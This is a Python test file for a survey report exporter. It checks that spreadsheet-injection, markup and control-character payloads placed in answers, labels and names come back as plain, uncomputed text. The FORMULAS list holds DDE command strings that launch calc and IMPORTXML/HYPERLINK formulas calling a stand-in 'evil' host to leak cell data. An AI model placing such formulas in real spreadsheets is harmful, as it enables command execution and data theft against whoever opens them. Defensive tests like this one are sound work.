"""Whatever people write, anywhere: it comes back as it was, and nothing of it is computed.

The payloads are those of published attacks on spreadsheets, and what breaks the usual writers.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from csv import reader
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from consult.i18n import Localized
from consult.questionnaires.specification import Notice, Questionnaire
from consult.questions import Choice
from consult.questions.rich_text import plain_text
from consult.reports.analysis.profiles import Profile, Target
from consult.reports.cells import LONGEST_TEXT, clean
from consult.reports.columns import Row
from consult.reports.contents import Contents
from consult.reports.named import headers_of
from consult.reports.source import Source
from tests.reports.building import cells, row, source, written
from tests.samples.questions import ask, group

FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil","x")'),
    *("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "＝1+1", "＋1", "－1", "＠A1", "{=1+1}"),
    *('=IMPORTXML(CONCAT("http://evil",A1),"//a")', '=DDE("cmd","/C calc","x")', "%0A=1+1"),
]
ERRORS = [
    "#REF!",
    "#N/A",
    "#VALUE!",
    "#DIV/0!",
    "#NULL!",
    "#NAME?",
    "#NUM!",
    "TRUE",
    "1e5",
    "00123",
    "2026-03-05",
]
MARKUP = [
    "<f>1</f>",
    "]]>",
    "&amp;",
    "&#0;",
    "<!--",
    "_x0041_",
    "_x000D_",
    "</t></is></c>",
    "\"'",
    "<script>",
]
CHARACTERS = [
    *("a\x00b", "a\x0bc", "\x1b[31m", "a\ufffeb", "a\uffffb", "a\ud800b", "\udfff", "\x7f", "a\x85b"),
    *("a\rb", "a\r\nb", "a\nb", "  both ends  ", "\u202eevil", "\u200f", "Nəxʷsƛ̕ay̓əm", "ትግርኛ", "😀", "ਪੰਜਾਬੀ"),
]
LONG = ["x" * (LONGEST_TEXT + 1), "é" * (3 * LONGEST_TEXT), "😀" * LONGEST_TEXT, "=" + "1+" * LONGEST_TEXT]
PAYLOADS = [*FORMULAS, *ERRORS, *MARKUP, *CHARACTERS, *LONG]
OURS = re.compile(r"=(B\d+/B\$\d+|ROUND\(B\d+/B\$\d+,2\)[+-]0\.01|SUM\(B\d+:B\d+\)/B\d+)")
"""The formulas that a report has of its own: nothing in them but addresses."""

SHORT = [payload for payload in PAYLOADS if payload not in LONG]


def named(payload: str) -> str:
    return repr(payload[:20]) if len(payload) < LONGEST_TEXT else f"{payload[:2]!r} × {len(payload)}"


def hostile_source(payload: str) -> Source:
    """The payload wherever a text can come from: answers, labels, titles, names, notes."""
    label = Localized({"en": payload, "fr": payload})
    choices = (Choice("a", label), Choice("b", Localized({"en": "B"})))
    form = Questionnaire(
        key="hostile",
        title=label,
        languages=("en", "fr"),
        items=(
            group(
                ask("text", "words", dict(label)),
                ask("select_multiple", "some", dict(label), choices=choices, has_other=True),
                ask("select_one", "one", dict(label), choices=choices, relevant="${some} = 'a'"),
                ask("rank", "order", dict(label), choices=choices),
                ask("email", "mail", dict(label)),
                ask("hidden", "carried", dict(label)),
                label=dict(label),
            ),
        ),
        choice_lists={},
        notice=Notice(label, label, label, label),
    )
    return source(form, [hostile_row(payload, place) for place in range(2)], organisation=label)


def hostile_row(payload: str, place: int) -> Row:
    return row(
        {
            "words": payload,
            "some": ["a", "other"],
            "some_other": payload,
            "one": "a",
            "order": ["a", "b"],
            "mail": payload,
            "carried": payload,
        },
        place=place,
        collector=payload,
        session_place=payload,
        form_number=payload,
        original_language={"words": "ar"},
        translations={"words": {"en": payload, "fr": payload}},
    )


def everything(payload: str) -> Contents:
    """Every sheet that a report can have, and a name that somebody gave it."""
    return Contents((), ("one", "_collector,one"), has_marks=True, is_weighted=True, name=payload)


def known(payload: str) -> Profile:
    return Profile((Target("one", {"a": 1, "b": 1}, payload),))


@pytest.mark.parametrize("payload", PAYLOADS, ids=named)
def test_no_payload_is_computed_or_breaks_a_report(payload: str, tmp_path: Path) -> None:
    of = replace(hostile_source(payload), threshold=1)
    workbook = load_workbook(written(of, "both", tmp_path, everything(payload), known(payload)))
    assert len(workbook.sheetnames) == 10
    computed = [cell for cell in cells(workbook) if cell.data_type not in ("s", "n", "d")]
    assert {cell.data_type for cell in computed} <= {"f"}
    assert all(OURS.fullmatch(str(cell.value)) for cell in computed)


@pytest.mark.parametrize("payload", SHORT, ids=named)
def test_answers_labels_and_names_come_back_equal(payload: str, tmp_path: Path) -> None:
    workbook = load_workbook(written(hostile_source(payload), "en", tmp_path))
    about, summary, responses, quotes, codebook = workbook.worksheets[:5]
    keys = [cell.value for cell in responses[1]]
    wanted, labelled = clean(payload), clean(plain_text(payload))
    for line in (3, 4):
        found = dict(zip(keys, (cell.value for cell in responses[line]), strict=True))
        for key in ("words", "some_other", "mail", "carried", "_collector", "_session_place", "_form_number"):
            assert found[key] == wanted
        assert found["one"] == labelled
        assert found["some"] == f"{labelled}; Other"
    labels = dict(zip(keys, (cell.value for cell in responses[2]), strict=True))
    assert labels["words"] == headers_of([(labelled, "words")])[0]
    assert [cell.value for cell in quotes["B"][1:]].count(wanted) == 4
    assert quotes["D"][1].value == wanted
    assert labelled in [cell.value for cell in codebook["D"]]
    assert about["A1"].value == labelled
    assert summary["A1"].value == labelled


@pytest.mark.parametrize("payload", LONG, ids=named)
def test_long_text_goes_on_and_is_never_cut(payload: str, tmp_path: Path) -> None:
    form = Questionnaire("f", Localized({"en": "F"}), ("en",), (ask("text", "words"),), {})
    workbook = load_workbook(written(source(form, [row({"words": payload})]), "en", tmp_path))
    responses, quotes = workbook.worksheets[2:4]
    assert str(responses.cell(3, 10).value).endswith("[… continued on the sheet “Open answers”]")
    assert "".join(str(cell.value) for cell in quotes["B"][1:]) == payload


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_the_same_and_computes_nothing(tmp_path: Path) -> None:
    """Recalculated by another program: every text of the responses equals what was answered."""
    answers = [row({"words": payload}, place=place) for place, payload in enumerate(SHORT)]
    form = Questionnaire("f", Localized({"en": "F"}), ("en",), (ask("text", "words"),), {})
    path = written(source(form, answers), "en", tmp_path)
    third = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,3"
    command = ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile"]
    subprocess.run(
        [*command, "--convert-to", third, "--outdir", str(tmp_path), str(path)],
        check=True,
        capture_output=True,
        timeout=180,
    )
    (converted,) = tmp_path.glob("*.csv")
    with converted.open(encoding="utf-8", newline="") as file:
        lines = list(reader(file))[2:]
    # Inside a cell LibreOffice knows one line end.
    assert [line[-1] for line in lines] == [clean(payload).replace("\r\n", "\n") for payload in SHORT]
